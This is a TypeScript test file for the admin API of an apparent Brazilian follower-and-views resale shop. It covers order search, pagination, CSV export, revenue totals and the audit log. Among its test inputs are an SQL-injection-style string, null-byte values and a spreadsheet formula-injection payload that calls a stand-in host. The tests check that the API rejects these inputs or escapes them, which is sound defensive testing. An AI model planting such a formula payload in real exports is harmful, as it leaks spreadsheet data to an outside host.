import { randomUUID } from 'node:crypto'
import { openForThisFile, orders } from '../testing/open-for-this-file.ts'
import type { OrderRow } from '../tables.ts'

openForThisFile()
let cookie: string
beforeAll(async () => {
  cookie = await orders.signIn()
})

const ask = (url: string) => orders.service.app.inject({ url, headers: { cookie } })
const get = async (url: string) => (await ask(url)).json()
const at = (minute: number, day = '2026-01-05') =>
  new Date(Date.parse(`${day}T12:00:00-03:00`) + minute * 60_000)

type Given = Partial<
  Pick<OrderRow, 'link' | 'status' | 'createdAt' | 'platform' | 'serviceType' | 'amountCents'>
> & {
  id?: string
  paymentId?: string
  txid?: string
  endToEndId?: string
  confirmedAt?: Date
}
async function anOrder({
  id = randomUUID(),
  paymentId,
  txid,
  endToEndId,
  confirmedAt,
  ...change
}: Given = {}) {
  const amountCents = change.amountCents ?? 4_500
  const order = {
    id,
    conversationId: randomUUID(),
    link: `https://www.instagram.com/${randomUUID()}/`,
    platform: 'instagram' as const,
    serviceType: 'followers' as const,
    quantity: 1_500,
    supplier: 'smm-api',
    status: 'cancelled' as const,
    fulfilment: 'stopped' as const,
    ...change,
    amountCents,
  }
  await orders.db.insertInto('orders').values(order).execute()
  await orders.db
    .insertInto('payments')
    .values({
      id: paymentId ?? randomUUID(),
      orderId: id,
      provider: 'api-pix',
      txid: txid ?? randomUUID().replaceAll('-', ''),
      amountCents,
      state: confirmedAt ? 'confirmed' : 'expired',
      endToEndId,
      confirmedAt,
      nextIssueAt: null,
      createdAt: change.createdAt ?? new Date(),
    })
    .execute()
  return id
}

describe('the order search', () => {
  const id = 'c0ffee00-1111-4111-8111-111111111111'
  const txid = 'abcd1234abcd1234abcd1234abcd1234'
  const endToEndId = 'E18236120202601051200s0123456789'
  beforeAll(async () => {
    const paymentId = 'f0f1f2aa-1111-4111-8111-111111111111'
    const link = 'https://www.instagram.com/Padaria.da_Ana/'
    await anOrder({ id, paymentId, txid, endToEndId, link, status: 'paid' })
    await anOrder({ link: 'https://www.instagram.com/padaria-da-ana/' })
  })
  const matches = async (search: string, more = '') =>
    (await get(`/api/orders?search=${encodeURIComponent(search)}${more}`)).map((it: { id: string }) => it.id)

  it.each([
    ['its whole id', id],
    ['the beginning of its id', 'c0ffee'],
    ['its id as somebody copied it', ' #C0FFEE00 '],
    ['a part of its link, whatever the case', 'padaria.da_a'],
    ['its whole link', 'https://www.instagram.com/Padaria.da_Ana/'],
    ['its txid', txid],
    ['the beginning of its txid', 'abcd1234'],
    ['its id at the bank', endToEndId],
    ['its payment as the panel calls it', 'PIX_f0f1f2'],
  ])('finds an order by %s', async (_, search) => {
    expect(await matches(search)).toEqual([id])
  })

  it('finds nothing else, and combines with the status', async () => {
    for (const search of ['padaria%', 'padaria.da_x', 'ffff0000ffff', "';--", '\\', 'PIX_c0ffee'])
      expect([search, await matches(search)]).toEqual([search, []])
    expect(await matches('padaria')).toHaveLength(2)
    expect(await matches('padaria', '&status=paid')).toEqual([id])
    expect((await get('/api/orders?search=%20')).length).toBeGreaterThan(1)
    for (const search of ['a'.repeat(301), '%00', 'loja%00'])
      expect((await ask(`/api/orders?search=${search}`)).statusCode).toBe(400)
  })
})

describe('pagination', () => {
  it('neither skips nor repeats rows of the same timestamp', async () => {
    const createdAt = at(0, '2025-05-05')
    const made = await Promise.all(
      Array.from({ length: 7 }, () => anOrder({ createdAt, link: 'https://www.tiktok.com/@mesma.hora' })),
    )
    for (const list of ['orders?search=mesma.hora&', 'payments?status=expired&']) {
      const seen: string[] = []
      let query = `limit=3&before=${encodeURIComponent(at(1, '2025-05-05').toISOString())}`
      for (let page = 0; page < 3; page++) {
        const rows = await get(`/api/${list}${query}`)
        seen.push(...rows.map((row: { id: string; orderId?: string }) => row.orderId ?? row.id))
        const last = rows.at(-1)
        query = `limit=3&before=${encodeURIComponent(last.createdAt)}&beforeId=${last.id}`
      }
      expect(seen.toSorted()).toEqual(made.toSorted())
    }
  })

  it('filters payments by status', async () => {
    await anOrder({ confirmedAt: at(0) })
    const statuses = (await get('/api/payments?status=confirmed')).map((it: { status: string }) => it.status)
    expect(new Set(statuses)).toEqual(new Set(['confirmed']))
    expect((await ask('/api/payments?status=lost')).statusCode).toBe(400)
  })
})

describe('an export', () => {
  it('is CSV for Brazilian spreadsheets with escaped formulas', async () => {
    const link = '=HYPERLINK("https://mau.example/?;"&A1)'
    const txid = 'fedc9876fedc9876fedc9876fedc9876'
    const paidAt = at(5)
    const id = await anOrder({
      link,
      txid,
      endToEndId: 'E1',
      createdAt: at(0),
      confirmedAt: paidAt,
      amountCents: 123_450,
    })
    await orders.db.updateTable('orders').set({ paidAt }).where('id', '=', id).execute()
    const answer = await ask(`/api/orders/export?search=${id}&status=cancelled`)
    expect(answer.headers['content-type']).toBe('text/csv; charset=utf-8')
    expect(answer.headers['content-disposition']).toMatch(
      /^attachment; filename="pedidos-\d{4}-\d\d-\d\d\.csv"$/,
    )
    expect(answer.body).toBe(
      '\uFEFFID;Data;Status;Plataforma;Serviço;Quantidade;Valor (R$);Link;Pago em;PIX (txid);ID no banco;ID no fornecedor\r\n' +
        `${id};05/01/2026 12:00:00;Cancelado;Instagram;Seguidores;1500;1234,50;` +
        `"'=HYPERLINK(""https://mau.example/?;""&A1)";05/01/2026 12:05:00;${txid};E1;\r\n`,
    )
  })

  it('of payments filters by status', async () => {
    const { body } = await ask('/api/payments/export?status=confirmed')
    const lines = body.trimEnd().split('\r\n')
    expect(lines[0]).toBe(
      '\uFEFFID;Pedido;Data;Status;Valor (R$);Recebido (R$);Confirmado em;PIX (txid);ID no banco',
    )
    expect(lines.length).toBeGreaterThan(1)
    for (const line of lines.slice(1)) expect(line).toContain(';Confirmado;')
  })

  it('contains the rows of every page', async () => {
    const rows = Array.from({ length: 2_500 }, (_, n) => ({
      id: randomUUID(),
      conversationId: randomUUID(),
      link: `https://www.youtube.com/watch?v=exportado${n}`,
      platform: 'youtube' as const,
      serviceType: 'views' as const,
      quantity: 1,
      amountCents: 100,
      supplier: 'smm-api',
      createdAt: at(n % 3, '2024-01-01'),
    }))
    await orders.db.insertInto('orders').values(rows).execute()
    const { body } = await ask('/api/orders/export?search=exportado')
    const ids = body
      .trim()
      .split('\r\n')
      .slice(1)
      .map((line) => line.split(';')[0])
    expect(ids.toSorted()).toEqual(rows.map(({ id }) => id).toSorted())
    await orders.db.deleteFrom('orders').where('platform', '=', 'youtube').execute()
  })
})

it('audits exports', async () => {
  await ask('/api/orders/export?status=paid&search=loja')
  expect(await get('/api/audit?action=exported-orders&limit=1')).toMatchObject([
    { actor: 'admin', details: { status: 'paid', search: 'loja' } },
  ])
})

describe('the revenue', () => {
  it('covers the last 30 days of São Paulo, by day and by product', async () => {
    const today = new Intl.DateTimeFormat('en-CA', { timeZone: 'America/Sao_Paulo' }).format()
    const daysAgo = (days: number) => new Date(Date.parse(`${today}T00:00:00-03:00`) - days * 86_400_000)
    const before = await get('/api/payments/revenue')
    await anOrder({ amountCents: 1_000, confirmedAt: daysAgo(0) })
    await anOrder({ amountCents: 200, confirmedAt: new Date(daysAgo(0).getTime() - 1) })
    await anOrder({ amountCents: 30, confirmedAt: daysAgo(29), platform: 'tiktok' })
    await anOrder({ amountCents: 4, confirmedAt: new Date(daysAgo(29).getTime() - 1) })
    const { byDay, byProduct } = await get('/api/payments/revenue')
    expect(byDay).toHaveLength(30)
    expect(byDay[29]).toEqual({
      day: today,
      amount: before.byDay[29].amount + 10,
      refunded: 0,
      payments: before.byDay[29].payments + 1,
    })
    expect(byDay[28]).toMatchObject({ amount: 2, payments: 1 })
    expect(byDay[0]).toMatchObject({ amount: 0.3, payments: 1 })
    expect(byProduct).toEqual([
      {
        platform: 'instagram',
        serviceType: 'followers',
        amount: byDay[29].amount + 2,
        refunded: 0,
        payments: expect.any(Number),
      },
      { platform: 'tiktok', serviceType: 'followers', amount: 0.3, refunded: 0, payments: 1 },
    ])
  })

  it('subtracts refunds on their own day', async () => {
    const before = await get('/api/payments/revenue')
    const stats = await get('/api/payments/stats')
    const endToEndId = `E${randomUUID()}`
    const yesterday = new Date(Date.now() - 86_400_000)
    const request = { amountCents: 1_000, endToEndId, confirmedAt: yesterday, platform: 'youtube' } as const
    const orderId = await anOrder(request)
    const refund = { orderId, endToEndId, cause: 'DELIVERED_IN_PART', amountCents: 250 }
    const done = { state: 'done', finishedAt: new Date() } as const
    await orders.db
      .insertInto('refunds')
      .values([
        { ...refund, ...done },
        { ...refund, cause: 'DECIDED_BY_STAFF', state: 'requested' },
        { ...refund, endToEndId: 'E of a second payment', cause: 'SECOND_PAYMENT', ...done },
      ])
      .execute()
    const { byDay, byProduct } = await get('/api/payments/revenue')
    expect(byDay[29].amount).toBeCloseTo(before.byDay[29].amount - 2.5)
    expect(byDay[29].refunded).toBe(2.5)
    expect(byDay[28].amount).toBeCloseTo(before.byDay[28].amount + 10)
    expect(byProduct).toContainEqual({
      platform: 'youtube',
      serviceType: 'followers',
      amount: 7.5,
      refunded: 2.5,
      payments: 1,
    })
    expect((await get('/api/payments/stats')).total).toBeCloseTo(stats.total + 7.5)
    expect((await get('/api/payments/stats')).today).toBeCloseTo(stats.today - 2.5)
  })
})

describe('the audit', () => {
  const write = (actor: string, action: string, details: object) =>
    orders.db
      .insertInto('auditLog')
      .values({ actor, action, details: JSON.stringify(details) })
      .execute()
  const list = (query: string) => get(`/api/audit?${query}`)

  it('lists actor, action, time and reason, newest first, page by page', async () => {
    const orderId = randomUUID()
    await write('maria', 'send-again', { orderId, reason: 'Não está lá' })
    await write('joao', 'refund-amount', { orderId, reason: '100% justo', amountCents: 1_000, subject: null })
    await write('maria', 'signed-out', {})
    const [newest, next] = await list('limit=2')
    expect(newest).toMatchObject({
      actor: 'maria',
      action: 'signed-out',
      orderId: null,
      reason: null,
      details: {},
    })
    expect(next).toEqual({
      id: expect.any(Number),
      at: expect.any(String),
      actor: 'joao',
      action: 'refund-amount',
      orderId,
      reason: '100% justo',
      details: { amountCents: '1000' },
    })
    expect(await list(`limit=1&before=${next.id}`)).toMatchObject([{ action: 'send-again' }])
    const actions = async (query: string) =>
      (await list(query)).map(({ action }: { action: string }) => action)
    expect(await actions('action=send-again')).toEqual(['send-again'])
    expect(await actions(`search=${orderId.slice(0, 8)}`)).toEqual(['refund-amount', 'send-again'])
    expect(await actions('search=MARIA')).toEqual(['signed-out', 'send-again'])
    expect(await actions('search=100%25')).toEqual(['refund-amount'])
  })

  it.each(['limit=0', 'limit=501', 'before=x', 'action=A%20B', 'unknown=1'])('refuses ?%s', async (query) => {
    expect((await ask(`/api/audit?${query}`)).statusCode).toBe(400)
  })
})

it.each(['/api/audit', '/api/orders/export', '/api/payments/export', '/api/payments/revenue'])(
  'keeps %s for the staff',
  async (url) => {
    expect((await orders.service.app.inject({ url })).statusCode).toBe(401)
  },
)
